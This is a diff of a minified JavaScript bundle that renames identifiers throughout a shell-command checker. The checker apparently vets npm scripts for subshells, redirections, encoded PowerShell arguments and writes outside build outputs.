+if(l===e&&(!i||e==="`"))return o(c),s;if(l==="$("||l==="`"||!i&&/^[<>]?\($/.test(l)){if(t===z0){o(c);continue}const d=this.#e.
+slice(r.start,c),h=l==="("?QE(d)?"subshell":"definition":"substitution",g=this.list(l==="`"?"`":")",t+1);r.inside.push(...g),
 r.gaps.push({kind:h,start:c,end:this.#s}),h==="subshell"&&(r.subshell=g)}else!i&&/^(?:[;&|\r\n]+|\))$/.test(l)?o(c,l):!i&&
 l.startsWith("#")&&/^\s?$/.test(this.#e.charAt(c-1))?r.gaps.push({kind:"comment",start:c,end:B}):!i&&/^(?:[<>]|&>)/.test(
 l)&&r.gaps.push({kind:"operator",start:c,end:B})}}return o(this.#e.length),s}#i(e){return{start:this.#s,gaps:[],inside:[],
@@ -4567,248 +4591,248 @@ ator").map(({start:D,end:P})=>{for(;_<C.length&&(C[_]?.span.start??P)<P;)_+=1;co
 D&&/^\d+$/.test(L.text)&&y.add(L),z&&y.add(z),{operator:this.#e.slice(D,P),...z&&{target:z}}}),x=[...h.assignments,...h.
 refused].map(g);return{words:C.filter(D=>!y.has(D)),assignments:x.sort((D,P)=>D.span.start-P.span.start),redirections:E,
 problems:h.problems.map(g),span:{start:r,end:t},separator:s,inside:o,substituted:i.filter(({kind:D})=>D==="substitution"),
-...c&&{pipedFrom:c},...l&&{subshell:l},...i.some(({kind:D})=>D==="definition")&&{defines:!0}}}}const P0=/^-(?:exec|ok)(?:dir)?$/;
-function Pr(n){let e=n;for(;;){const[t,s]=e,r=$a(t?.text??"");if(r==="find"){const o=e.findIndex(({text:c})=>P0.test(c));
+...c&&{pipedFrom:c},...l&&{subshell:l},...i.some(({kind:D})=>D==="definition")&&{defines:!0}}}}const q0=/^-(?:exec|ok)(?:dir)?$/;
+function Pr(n){let e=n;for(;;){const[t,s]=e,r=Ra(t?.text??"");if(r==="find"){const o=e.findIndex(({text:c})=>q0.test(c));
 return o<0?e:Pr(e.slice(o+1))}if(Lt(r)?.kind!=="wrapper"||r==="command"&&/^-[vV]/.test(s?.text??""))return e;const i=e.findIndex(
-(o,c)=>c>0&&L0(o,e));if(i<0)return e;e=e.slice(i)}}function L0({text:n},e){return e.slice(1).some(t=>Lt(t.text))?Lt(n)!==
-void 0:!/^-|^\w+=|^\d+[smhd]?$/.test(n)}function mc(n){const[e,...t]=n,s=e&&Lt(e.text);if(s?.text===void 0)return;if(s.text===
-"words")return so(t);const r=s.text,i=t.findIndex(({text:c})=>r.test(c)),o=t[i];if(o!==void 0){if(s.name==="cmd"){const c=o.
-text.slice(2);return so(c===""?t.slice(i+1):[{...o,text:c},...t.slice(i+1)])}return/^[-/]e/i.test(o.text)&&Kf(s)?j0(t[i+
-1]):Kf(s)?so(t.slice(i+1)):so(t.slice(i+1,i+2))}}function Kf({name:n}){return n==="pwsh"||n==="powershell"}function so(n){
-return n.length===0?void 0:{text:n.map(({text:e})=>e).join(" "),words:n}}function j0(n){return n&&{text:Buffer.from(n.text,
-"base64").toString("utf16le"),words:[n]}}var M0=ot(298);function G0(n,e){const t=Pn(n,e);if(t.length===0&&!pf(n))return{
+(o,c)=>c>0&&Y0(o,e));if(i<0)return e;e=e.slice(i)}}function Y0({text:n},e){return e.slice(1).some(t=>Lt(t.text))?Lt(n)!==
+void 0:!/^-|^\w+=|^\d+[smhd]?$/.test(n)}function gc(n){const[e,...t]=n,s=e&&Lt(e.text);if(s?.text===void 0)return;if(s.text===
+"words")return ro(t);const r=s.text,i=t.findIndex(({text:c})=>r.test(c)),o=t[i];if(o!==void 0){if(s.name==="cmd"){const c=o.
+text.slice(2);return ro(c===""?t.slice(i+1):[{...o,text:c},...t.slice(i+1)])}return/^[-/]e/i.test(o.text)&&Xf(s)?V0(t[i+
+1]):Xf(s)?ro(t.slice(i+1)):ro(t.slice(i+1,i+2))}}function Xf({name:n}){return n==="pwsh"||n==="powershell"}function ro(n){
+return n.length===0?void 0:{text:n.map(({text:e})=>e).join(" "),words:n}}function V0(n){return n&&{text:Buffer.from(n.text,
+"base64").toString("utf16le"),words:[n]}}var Q0=ot(298);function X0(n,e){const t=Pn(n,e);if(t.length===0&&!wf(n))return{
 commands:t,fault:{part:"the script",why:"cannot be read"}};const s=qn(n).problems.find(({rule:r})=>r==="shell-comment");
 if(s&&t.length>0){const r=n.slice(s.span.start,s.span.end);return{commands:t,fault:{part:r,why:"hides the words behind i\
-t"}}}for(const[r,i]of t.entries()){const o=r===t.length-1,c=U0(i,n)??H0(i,o);if(c!==void 0)return{commands:t,fault:c}}return{
-commands:t}}function H0({separator:n},e){const t=n.trim();if(!(e?t==="":t==="&&"))return{part:t===""?"a line break":t,why:z0}}
-const z0="joins commands in another way than `&&`";function U0(n,e){const{words:t,redirections:s,inside:r,subshell:i,defines:o,
+t"}}}for(const[r,i]of t.entries()){const o=r===t.length-1,c=nx(i,n)??ex(i,o);if(c!==void 0)return{commands:t,fault:c}}return{
+commands:t}}function ex({separator:n},e){const t=n.trim();if(!(e?t==="":t==="&&"))return{part:t===""?"a line break":t,why:tx}}
+const tx="joins commands in another way than `&&`";function nx(n,e){const{words:t,redirections:s,inside:r,subshell:i,defines:o,
 problems:c,assignments:l}=n,B=e.slice(n.span.start,n.span.end).trim(),d=(_,k)=>({part:_,why:k});if(i)return d(B,"runs in\
  a subshell");if(o)return d(B,"defines a function");if(r.length>0)return d(B,"runs a command to make a word");const[h]=s;
-if(h)return d(`${h.operator} ${h.target?.text??""}`,"redirects input or output");const g=l.find(({name:_,value:k})=>!Ea(
-_,k));if(g)return d(`${g.name}=`,"sets a variable that can choose the code that runs");const C=t.find(_=>pc(n,_)&&!J0(n,
-_,e));if(C){const{start:_,end:k}=C.span;return d(e.slice(_,k),"is only known when the script runs")}const y=c.find(_=>!Z0(
+if(h)return d(`${h.operator} ${h.target?.text??""}`,"redirects input or output");const g=l.find(({name:_,value:k})=>!va(
+_,k));if(g)return d(`${g.name}=`,"sets a variable that can choose the code that runs");const C=t.find(_=>mc(n,_)&&!sx(n,
+_,e));if(C){const{start:_,end:k}=C.span;return d(e.slice(_,k),"is only known when the script runs")}const y=c.find(_=>!rx(
 _,t));if(y){const{start:_,end:k}=y.span;return d(e.slice(_,k).trim()||B,"is syntax of a shell")}return t.length===0?d(B,
-"starts no program"):W0(t)}function J0({problems:n},{span:e},t){return n.every(s=>s.rule!=="variable-expansion"||s.span.
-end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.test(t.slice(s.span.start,s.span.end)))}function Z0({
+"starts no program"):ix(t)}function sx({problems:n},{span:e},t){return n.every(s=>s.rule!=="variable-expansion"||s.span.
+end<=e.start||s.span.start>=e.end||/^\$\{?npm_package_version\}?$/.test(t.slice(s.span.start,s.span.end)))}function rx({
 rule:n,span:e,severity:t},s){if(n==="variable-expansion"||t==="warning")return!0;if(n!=="brace-expansion")return!1;const r=s.
-find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&Rr(r.text)?.every(i=>!i.startsWith("-"))===!0}function W0(n){
-const[e]=n,t=e?.text??"";if(yB(t)&&!e?.quoted)return{part:t,why:"is a word of the shell"};const s=Pr(n);if(!qf(t))return s.
-length<n.length||Lt(t)?.kind==="wrapper"?{part:t,why:"decides how another program runs"}:mc(s)&&t!=="node"?{part:t,why:"\
-runs text as code"}:void 0}function qf(n){const e=Lt(n);return e?.name===n&&e.wraps==="as-tool"}const gc={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,
+find(i=>i.span.start<=e.start&&i.span.end>=e.end);return r!==void 0&&Rr(r.text)?.every(i=>!i.startsWith("-"))===!0}function ix(n){
+const[e]=n,t=e?.text??"";if(vB(t)&&!e?.quoted)return{part:t,why:"is a word of the shell"};const s=Pr(n);if(!eh(t))return s.
+length<n.length||Lt(t)?.kind==="wrapper"?{part:t,why:"decides how another program runs"}:gc(s)&&t!=="node"?{part:t,why:"\
+runs text as code"}:void 0}function eh(n){const e=Lt(n);return e?.name===n&&e.wraps==="as-tool"}const Cc={cp:{flags:/^-[afprRvu]+$|^--(?:recursive|force|verbose)$/,
 from:-1},mkdir:{flags:/^-[pv]+$|^--parents$/,from:0},rimraf:{flags:/^--(?:no-glob|verbose)$/,from:0},rm:{flags:/^-[rRfv]+$|^--(?:recursive|force)$/,
-from:0}},K0=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;function q0([n,...e]){if(n?.text==="shx"){
-const[t]=e;return t&&(t.text==="echo"||Object.hasOwn(gc,t.text))?e:void 0}return n&&Object.hasOwn(gc,n.text)?[n,...e]:void 0}
-async function Y0([n,...e],t){const s=n?.text??"",r=gc[s];if(r===void 0)return;const i=e.find(({text:c})=>c.startsWith("\
+from:0}},ox=/(?:^|\/)(?:node_modules|\.git|\.venv|venv|vendor|\.yarn)(?:\/|$)/i;function ax([n,...e]){if(n?.text==="shx"){
+const[t]=e;return t&&(t.text==="echo"||Object.hasOwn(Cc,t.text))?e:void 0}return n&&Object.hasOwn(Cc,n.text)?[n,...e]:void 0}
+async function cx([n,...e],t){const s=n?.text??"",r=Cc[s];if(r===void 0)return;const i=e.find(({text:c})=>c.startsWith("\
 -")&&!r.flags.test(c));if(i)return{part:`${s} ${i.text}`,why:"has a flag that is not known"};const o=e.flatMap(({text:c})=>c.
-startsWith("-")?[]:[c]);if(o.length<(r.from<0?2:1))return{part:s,why:"names no path"};for(const c of o.slice(r.from)){const l=await V0(
-c,t);if(l!==void 0)return{part:`${s} \u2026 ${c}`,why:l}}}async function V0(n,e){const{tree:t,isOutput:s}=e,r=n.startsWith(
+startsWith("-")?[]:[c]);if(o.length<(r.from<0?2:1))return{part:s,why:"names no path"};for(const c of o.slice(r.from)){const l=await ux(
+c,t);if(l!==void 0)return{part:`${s} \u2026 ${c}`,why:l}}}async function ux(n,e){const{tree:t,isOutput:s}=e,r=n.startsWith(
 "/")?void 0:Bt(Ft(e,n));if(r===void 0||r==="")return"writes outside of the build outputs";if(/[*?[\]{}!$~\\]/.test(n))return"\
-writes to a path that the text does not show";if(K0.test(r))return"writes to a directory of dependencies";if(zv(r)!==void 0)
+writes to a path that the text does not show";if(ox.test(r))return"writes to a directory of dependencies";if(tk(r)!==void 0)
 return"writes a configuration file";const i=t.stat(r);if(i?.tracked&&i.kind!=="directory")return"writes a file of the co\
 mmit";const o=`${r}/`;if(i?.tracked&&[...t.files()].some(l=>l.path.startsWith(o)))return"writes to a directory of the co\
-mmit";if(!(s?.(r)||(await Q0(t))(r)))return"writes to a path that git does not ignore and `build_outputs` does not name"}
-const Q0=Rn(async n=>{const e=new Map;for(const{path:t}of n.files()){if(He.posix.basename(t)!==".gitignore")continue;const s=await Mi(
-n,t,X0),r=He.posix.dirname(t).replace(/^\.$/,"");s&&"text"in s&&e.set(r,M0().add(s.text))}return t=>{const s=t.split("/");
+mmit";if(!(s?.(r)||(await lx(t))(r)))return"writes to a path that git does not ignore and `build_outputs` does not name"}
+const lx=Rn(async n=>{const e=new Map;for(const{path:t}of n.files()){if(He.posix.basename(t)!==".gitignore")continue;const s=await Gi(
+n,t,dx),r=He.posix.dirname(t).replace(/^\.$/,"");s&&"text"in s&&e.set(r,Q0().add(s.text))}return t=>{const s=t.split("/");
 let r=!1;for(let i=0;i<s.length;i+=1){const o=e.get(s.slice(0,i).join("/")),c=s.slice(i).join("/"),l=o?.test(c),B=o?.test(
-`${c}/`);l?.ignored||B?.ignored?r=!0:(l?.unignored||B?.unignored)&&(r=!1)}return r}}),X0=256*1024;async function ex({body:n,
-words:e,span:t},s,r){const i=G0(n,ps(s.tree,s.directory)),o=i.fault?Ln(i.commands).map(Wf):i.commands,c=[];let{fault:l}=i,
-B=s;for(const[g,C]of o.entries()){const y=!l||C.words.every(P=>!pc(C,P)),_=g===o.length-1&&!i.fault,k=[...C.words.map(P=>({
+`${c}/`);l?.ignored||B?.ignored?r=!0:(l?.unignored||B?.unignored)&&(r=!1)}return r}}),dx=256*1024;async function Bx({body:n,
+words:e,span:t},s,r){const i=X0(n,ps(s.tree,s.directory)),o=i.fault?Ln(i.commands).map(Qf):i.commands,c=[];let{fault:l}=i,
+B=s;for(const[g,C]of o.entries()){const y=!l||C.words.every(P=>!mc(C,P)),_=g===o.length-1&&!i.fault,k=[...C.words.map(P=>({
 ...P,span:t})),..._?e:[]],[E,x]=k;if(E?.text==="cd"){const P=x&&Bt(Ft(B,x.text));(g>0||k.length!==2||P===void 0)&&(l??={
 part:"cd",why:"changes the directory in the middle, or leaves the repository"}),B={...B,directory:P??B.directory};continue}
-const D=q0(k);D&&(l??=await Y0(D,B)),!(D||E===void 0||!y||gB(E.text))&&c.push(await sx(k,B,r))}const d=o.some(({words:g})=>tx.
-test(g.map(({text:C})=>C).join(" "))),h=!l&&c.length===0&&o.length>0&&!d;return{parts:c,isIdle:h,...l&&{fault:l}}}const tx=/^(?:\[|exit (?!0$)|false|test )/,
-nx=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function sx(n,e,t){const s=qf(n[0]?.text??"")?n:Pr(n),[r,...i]=s;if(r===
-void 0)return ht;const{families:o}=e,c=_s(r.text)?r.text:o?.allowed.get(r.text),l=nx.exec(r.text)?.[1]??r.text,B=n[0]===
-r?void 0:n[0],d=B?Cc(B):ht;if(c===void 0&&/[\\/]/.test(l))return pt([d,Yf(s,e)]);const{invocation:h,problems:g}=c?ec(c,i,
-o):ec("npx",[{...r,text:l},...i],o),C=await t.resolve(h,e),y=c===void 0&&C.problems.some(({rule:E})=>E==="binary-missing");
-if(y&&o.tools.known(l)!==void 0)return pt([d,Cc(r),{targets:[],problems:g}]);if(y)return pt([d,Yf(s,e)]);const k=sf(h,e.
-directory);return pt([d,{targets:[],problems:[...g,...k]},C])}function Cc({text:n,span:e}){return ze("program-not-allowe\
-d",e,{program:n,group:"other"})}function Yf(n,e){const[t]=n;if(t===void 0)return ht;const s=n.map(o=>o.text).join(" "),r=n.
+const D=ax(k);D&&(l??=await cx(D,B)),!(D||E===void 0||!y||_B(E.text))&&c.push(await px(k,B,r))}const d=o.some(({words:g})=>fx.
+test(g.map(({text:C})=>C).join(" "))),h=!l&&c.length===0&&o.length>0&&!d;return{parts:c,isIdle:h,...l&&{fault:l}}}const fx=/^(?:\[|exit (?!0$)|false|test )/,
+hx=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function px(n,e,t){const s=eh(n[0]?.text??"")?n:Pr(n),[r,...i]=s;if(r===
+void 0)return ht;const{families:o}=e,c=Es(r.text)?r.text:o?.allowed.get(r.text),l=hx.exec(r.text)?.[1]??r.text,B=n[0]===
+r?void 0:n[0],d=B?yc(B):ht;if(c===void 0&&/[\\/]/.test(l))return pt([d,th(s,e)]);const{invocation:h,problems:g}=c?tc(c,i,
+o):tc("npx",[{...r,text:l},...i],o),C=await t.resolve(h,e),y=c===void 0&&C.problems.some(({rule:E})=>E==="binary-missing");
+if(y&&o.tools.known(l)!==void 0)return pt([d,yc(r),{targets:[],problems:g}]);if(y)return pt([d,th(s,e)]);const k=uf(h,e.
+directory);return pt([d,{targets:[],problems:[...g,...k]},C])}function yc({text:n,span:e}){return ze("program-not-allowe\
+d",e,{program:n,group:"other"})}function th(n,e){const[t]=n;if(t===void 0)return ht;const s=n.map(o=>o.text).join(" "),r=n.
 find(o=>o.span.start!==t.span.start&&(o.text.startsWith("-")||Lt(t.text))),i=r?ze("npm-script-form",r.span,{script:e.via??
-"",text:s,part:t.text,why:"is a program that the gate does not read",words:[r.text]}):ht;return pt([Cc(t),i,Vf(s,e,t.span)])}
-function Vf(n,e,t){const s=Ln(Pn(n)),r=s.flatMap(({words:_})=>rx(Pr(_)[0],e)),i=r.some(({runsScripts:_})=>_)||s.some(_=>_.
-substituted.length>0||[..._.words,..._.assignments].some(k=>pc(_,k))),o=n.split(ox).filter(_=>_!==""),c=r.flatMap(({finds:_})=>_?.
-split(" ")??[]),l=[...new Set([...o,...o.flatMap(ix),...c])],B=[e.directory];for(const{words:_}of s){const[k,E]=_;if(!(!/^(?:cd|pushd)$/.
-test(k?.text??"")||E===void 0)&&(B.push(...B.flatMap(x=>Bt(He.posix.join(x,E.text))??[])),B.length>ax))break}const d=[...e.
+"",text:s,part:t.text,why:"is a program that the gate does not read",words:[r.text]}):ht;return pt([yc(t),i,nh(s,e,t.span)])}
+function nh(n,e,t){const s=Ln(Pn(n)),r=s.flatMap(({words:_})=>mx(Pr(_)[0],e)),i=r.some(({runsScripts:_})=>_)||s.some(_=>_.
+substituted.length>0||[..._.words,..._.assignments].some(k=>mc(_,k))),o=n.split(Cx).filter(_=>_!==""),c=r.flatMap(({finds:_})=>_?.
+split(" ")??[]),l=[...new Set([...o,...o.flatMap(gx),...c])],B=[e.directory];for(const{words:_}of s){const[k,E]=_;if(!(!/^(?:cd|pushd)$/.
+test(k?.text??"")||E===void 0)&&(B.push(...B.flatMap(x=>Bt(He.posix.join(x,E.text))??[])),B.length>yx))break}const d=[...e.
 changed],h=[...new Set(B)].flatMap(_=>l.map(k=>{const E={...e,directory:_},x=Bt(He.posix.join(_,k));if(x===void 0)return ht;
-const D=Ot(e.tree,x);if(D.kind==="inside"&&Wt(D.entry.kind))return oB(E,{text:k,span:t});const P=d.filter(z=>/[*?[]/.test(
-k)?Xi(z,x,{dot:!0}):D.kind==="inside"&&x!==""&&sn(z,x));return pt(P.map(z=>ze("target-changed",t,{path:z})))})),g=i?d.filter(
-za):[],{targets:C,problems:y}=pt([...h,...g.map(_=>ze("target-changed",t,{path:_}))]);return{targets:[...new Map(C.map(_=>[
-_.path,_])).values()],problems:[...new Map(y.map(_=>[JSON.stringify(_.args),_])).values()]}}function rx(n,{families:e}){
-const t=n&&!e.allowed.has(n.text)&&Lt(n.text);return t&&!_s(t.name)?[t]:[]}function ix(n){if(!/^[\w./-]*\w$/.test(n))return[];
+const D=Ot(e.tree,x);if(D.kind==="inside"&&Kt(D.entry.kind))return dB(E,{text:k,span:t});const P=d.filter(z=>/[*?[]/.test(
+k)?eo(z,x,{dot:!0}):D.kind==="inside"&&x!==""&&sn(z,x));return pt(P.map(z=>ze("target-changed",t,{path:z})))})),g=i?d.filter(
+Ua):[],{targets:C,problems:y}=pt([...h,...g.map(_=>ze("target-changed",t,{path:_}))]);return{targets:[...new Map(C.map(_=>[
+_.path,_])).values()],problems:[...new Map(y.map(_=>[JSON.stringify(_.args),_])).values()]}}function mx(n,{families:e}){
+const t=n&&!e.allowed.has(n.text)&&Lt(n.text);return t&&!Es(t.name)?[t]:[]}function gx(n){if(!/^[\w./-]*\w$/.test(n))return[];
 const e=n.replaceAll(".","/"),t=[".py","/__main__.py","/__init__.py"].map(s=>e+s);return[...[".js",".mjs",".cjs",".ts","\
-/index.js"].map(s=>n+s),...t]}const ox=/[\s"'`;&|()<>=:,{}]+/,ax=16;function cx(n,e,t,s){const{directory:r,event:i,words:o}=e;
-return s.follow(`${r}\0${i}`,`${ic(e)}\0${o.length}`,()=>lx(n,e,t,s),c=>ux(c,i,t))}async function Qf(n,e,t,s){const r=e.
-length>0?[await D0(n,t)]:[];for(const i of e)r.push(await cx(n,i,t,s));return pt([...r,Xf(n,t)])}function Xf({directory:n,
-changed:e},t){const s=He.posix.join(n,"package.json");return e.has(s)?ze("target-changed",t,{path:s}):ht}function ux(n,e,t){
+/index.js"].map(s=>n+s),...t]}const Cx=/[\s"'`;&|()<>=:,{}]+/,yx=16;function wx(n,e,t,s){const{directory:r,event:i,words:o}=e;
+return s.follow(`${r}\0${i}`,`${oc(e)}\0${o.length}`,()=>_x(n,e,t,s),c=>bx(c,i,t))}async function sh(n,e,t,s){const r=e.
+length>0?[await L0(n,t)]:[];for(const i of e)r.push(await wx(n,i,t,s));return pt([...r,rh(n,t)])}function rh({directory:n,
+changed:e},t){const s=He.posix.join(n,"package.json");return e.has(s)?ze("target-changed",t,{path:s}):ht}function bx(n,e,t){
 return n.why==="cycle"?ze("npm-script-cycle",t,{script:e}):ze("npm-script-chain",t,{script:e,limit:n.limit,what:n.why})}
-async function lx(n,e,t,s){const{event:r,body:i,words:o}=e,c=ic(e),l={targets:[ji(n,{kind:"npm_script",name:r,script:c})],
-problems:[]},B={...n,via:r},{parts:d,fault:h,isIdle:g}=await ex({body:i,words:o,span:t},B,s),C=await dx(n,e),y=[l];let _=h!==
-void 0;for(const{problems:k,targets:E}of d){const{kept:x,refused:D}=fx(k,o);if(y.push({targets:E,problems:x.map(hx(C))}),
-D===void 0)continue;const P=th(D)&&!eh(D);_||=P;const z=P&&!C?"error":void 0,L={script:r,text:c,reason:D.rule};h||y.push(
-ze("npm-script-text",t,L,z))}if(g&&y.push(ze("only-prints",t,{program:"npm",flag:`run ${r}`})),h===void 0)y.push(Bx(o));else{
+async function _x(n,e,t,s){const{event:r,body:i,words:o}=e,c=oc(e),l={targets:[Mi(n,{kind:"npm_script",name:r,script:c})],
+problems:[]},B={...n,via:r},{parts:d,fault:h,isIdle:g}=await Bx({body:i,words:o,span:t},B,s),C=await Ex(n,e),y=[l];let _=h!==
+void 0;for(const{problems:k,targets:E}of d){const{kept:x,refused:D}=kx(k,o);if(y.push({targets:E,problems:x.map(Dx(C))}),
+D===void 0)continue;const P=oh(D)&&!ih(D);_||=P;const z=P&&!C?"error":void 0,L={script:r,text:c,reason:D.rule};h||y.push(
+ze("npm-script-text",t,L,z))}if(g&&y.push(ze("only-prints",t,{program:"npm",flag:`run ${r}`})),h===void 0)y.push(vx(o));else{
 const k=C&&o.length===0?"notice":void 0,E={script:r,text:c,...h,words:o.map(x=>x.text)};y.push(ze("npm-script-form",o[0]?.
-span??t,E,k))}return _&&C&&y.push(Vf(i,B,t)),pt(y)}async function dx({base:n,directory:e,changed:t},{event:s,body:r}){return(n&&
-(await Dn(n,e))?.scripts.get(s))===r&&(!t.has(Ft({directory:e},"package.json"))||!/npm_/.test(r))}function Bx(n){const e=n.
-flatMap(t=>Yd(qn(`x ${Cf(t.text)}`).problems).map(s=>({...s,span:t.span})));return{targets:[],problems:e}}function fx(n,e){
-const t=({span:o})=>e.some(c=>px(c.span,o)),s=n.filter(o=>t(o)||gx(o)),r=n.filter(o=>!s.includes(o)),i=r.filter(th);return{
-kept:s,refused:i.find(o=>!eh(o))??i[0]??r[0]}}function eh({rule:n}){return n==="program-not-allowed"}function hx(n){return e=>n&&
-e.rule==="tool-unknown"?{...e,severity:"notice"}:e}function px(n,e){return n.start<e.end&&n.end>e.start}function th({severity:n}){
-return n==="error"}const mx=new Set(["build-files-unread","dependency-not-compared","dependency-redirected","target-chan\
-ged","target-writes","not-installed","only-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function gx({rule:n,
-args:e}){return n==="dependency-unverified"?"fault"in e&&["removed","stale"].includes(e.fault):mx.has(n)||n.startsWith("\
-npm-script-")||n.startsWith("npmrc-")}const Cx=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(n=>`.${n}`)];
-async function yx(n,e){return nh(n.tool??{files:[],roots:[],nodeFlags:[]},e)}function wx({files:n=[],flags:e,family:t},s){
-const r=e.flatMap(({name:i,value:o})=>o&&t&&Gd(t,i)?o:[]);return nh({files:n,roots:r,nodeFlags:[]},s)}async function nh({
+span??t,E,k))}return _&&C&&y.push(nh(i,B,t)),pt(y)}async function Ex({base:n,directory:e,changed:t},{event:s,body:r}){return(n&&
+(await xn(n,e))?.scripts.get(s))===r&&(!t.has(Ft({directory:e},"package.json"))||!/npm_/.test(r))}function vx(n){const e=n.
+flatMap(t=>tB(qn(`x ${Ef(t.text)}`).problems).map(s=>({...s,span:t.span})));return{targets:[],problems:e}}function kx(n,e){
+const t=({span:o})=>e.some(c=>xx(c.span,o)),s=n.filter(o=>t(o)||Ax(o)),r=n.filter(o=>!s.includes(o)),i=r.filter(oh);return{
+kept:s,refused:i.find(o=>!ih(o))??i[0]??r[0]}}function ih({rule:n}){return n==="program-not-allowed"}function Dx(n){return e=>n&&
+e.rule==="tool-unknown"?{...e,severity:"notice"}:e}function xx(n,e){return n.start<e.end&&n.end>e.start}function oh({severity:n}){
+return n==="error"}const Ox=new Set(["build-files-unread","dependency-not-compared","dependency-redirected","target-chan\
+ged","target-writes","not-installed","only-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function Ax({rule:n,
+args:e}){return n==="dependency-unverified"?"fault"in e&&["removed","stale"].includes(e.fault):Ox.has(n)||n.startsWith("\
+npm-script-")||n.startsWith("npmrc-")}const Sx=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(n=>`.${n}`)];
+async function Tx(n,e){return ah(n.tool??{files:[],roots:[],nodeFlags:[]},e)}function Ix({files:n=[],flags:e,family:t},s){
+const r=e.flatMap(({name:i,value:o})=>o&&t&&Zd(t,i)?o:[]);return ah({files:n,roots:r,nodeFlags:[]},s)}async function ah({
 files:n,roots:e,nodeFlags:t},s){const r=["",...e].flatMap(o=>{const c=Bt(Ft(s,o));return c===void 0?[]:[c]}),i=[];for(const o of n)
-i.push(o.as==="tests"?await Ex(o,s):await bx(o,[...new Set(r)],s));for(const o of t)i.push(await Gf(o,s));return pt(i)}async function bx(n,e,t){
+i.push(o.as==="tests"?await Nx(o,s):await $x(o,[...new Set(r)],s));for(const o of t)i.push(await Zf(o,s));return pt(i)}async function $x(n,e,t){
 const{as:s,path:r,span:i}=n,o=Yn(r,i,t.directory);if(o!==void 0)return{targets:[],problems:[o]};const c=[];for(const l of e){
-const B=Bt(He.posix.join(l,r));if(B===void 0)continue;const d=await _x(n,B,t);d!==void 0&&c.push(d)}return c.length>0?pt(
-c):s==="code"||s==="config"?ka(t.tree,He.posix.join(t.directory,r),r,i):s==="module"&&n.first?Hf(t,r,i):ht}async function _x(n,e,t){
-const{as:s,path:r,span:i}=n,{tree:o}=t,c=jf(o,s==="place"?[e]:Cx.map(B=>e+B));if(c===void 0)return;const l=c.kind==="ins\
-ide"&&!Wt(c.entry.kind);if(s==="place"&&c.kind==="inside")return ht;if(!l)return yc(n,e,c,t);if(s==="config"){const B=Ot(
-o,He.posix.join(c.path,"tsconfig.json"));return B.kind==="missing"?ht:yc(n,e,B,t)}return Mf(t,{path:r,wanted:e},i,B=>yc(
-n,e,B.found,t))}async function yc({as:n,path:e,span:t,ifFile:s},r,i,o){const c=await Bc(o,{path:e,wanted:r,found:i},t);return n===
-"module"&&s&&c.targets.length>0?pt([{targets:[],problems:[s]},c]):c}function Ex({path:n,span:e},t){return Pf(t,n,e,async s=>s.
-found.kind==="inside"&&Wt(s.found.entry.kind)?Bc(t,s,e):ht)}async function vx(n,e,t){const{subcommand:s,operands:r,flags:i}=n,
-[o]=r,c=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?ht:wc(e,n,o);const{project:l,selected:B,runs:d,
-packages:h,problems:g}=await ff(n,e,c);if(l===void 0)return{targets:[],problems:g};const C=[await Oa({...e,directory:l},
-c)];for(const y of h){const _=d.filter(k=>k.directory===y);C.push(await Qf({...e,directory:y},_,c,t))}return B&&!h.includes(
-l)&&C.push(Xf({...e,directory:l},c)),pt([...C,{targets:[],problems:g}])}async function wc(n,e,{text:t,span:s}){if(!Tr(t))
-return ht;const r=e.starts==="file",i=r?ht:await Rf(n,c=>kx(c,t,s));if(!r&&i.targets.length===0)return i;const o=await yx(
-e,n);return pt([i,xr(n.families.tools,t)?ht:ze("tool-unknown",s,{tool:t}),o])}async function kx(n,e,t){const{tree:s}=n,r=await $r(
-s,""),i=(await hc(s)).get(e);if(i!==void 0&&n.via!==void 0&&s.stat("node_modules")===void 0)return oB(n,{text:i.file,span:t});
+const B=Bt(He.posix.join(l,r));if(B===void 0)continue;const d=await Rx(n,B,t);d!==void 0&&c.push(d)}return c.length>0?pt(
+c):s==="code"||s==="config"?Da(t.tree,He.posix.join(t.directory,r),r,i):s==="module"&&n.first?Wf(t,r,i):ht}async function Rx(n,e,t){
+const{as:s,path:r,span:i}=n,{tree:o}=t,c=Uf(o,s==="place"?[e]:Sx.map(B=>e+B));if(c===void 0)return;const l=c.kind==="ins\
+ide"&&!Kt(c.entry.kind);if(s==="place"&&c.kind==="inside")return ht;if(!l)return wc(n,e,c,t);if(s==="config"){const B=Ot(
+o,He.posix.join(c.path,"tsconfig.json"));return B.kind==="missing"?ht:wc(n,e,B,t)}return Jf(t,{path:r,wanted:e},i,B=>wc(
+n,e,B.found,t))}async function wc({as:n,path:e,span:t,ifFile:s},r,i,o){const c=await fc(o,{path:e,wanted:r,found:i},t);return n===
+"module"&&s&&c.targets.length>0?pt([{targets:[],problems:[s]},c]):c}function Nx({path:n,span:e},t){return Hf(t,n,e,async s=>s.
+found.kind==="inside"&&Kt(s.found.entry.kind)?fc(t,s,e):ht)}async function Fx(n,e,t){const{subcommand:s,operands:r,flags:i}=n,
+[o]=r,c=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?ht:bc(e,n,o);const{project:l,selected:B,runs:d,
+packages:h,problems:g}=await Cf(n,e,c);if(l===void 0)return{targets:[],problems:g};const C=[await Aa({...e,directory:l},
+c)];for(const y of h){const _=d.filter(k=>k.directory===y);C.push(await sh({...e,directory:y},_,c,t))}return B&&!h.includes(
+l)&&C.push(rh({...e,directory:l},c)),pt([...C,{targets:[],problems:g}])}async function bc(n,e,{text:t,span:s}){if(!Tr(t))
+return ht;const r=e.starts==="file",i=r?ht:await jf(n,c=>Px(c,t,s));if(!r&&i.targets.length===0)return i;const o=await Tx(
+e,n);return pt([i,xr(n.families.tools,t)?ht:ze("tool-unknown",s,{tool:t}),o])}async function Px(n,e,t){const{tree:s}=n,r=await $r(
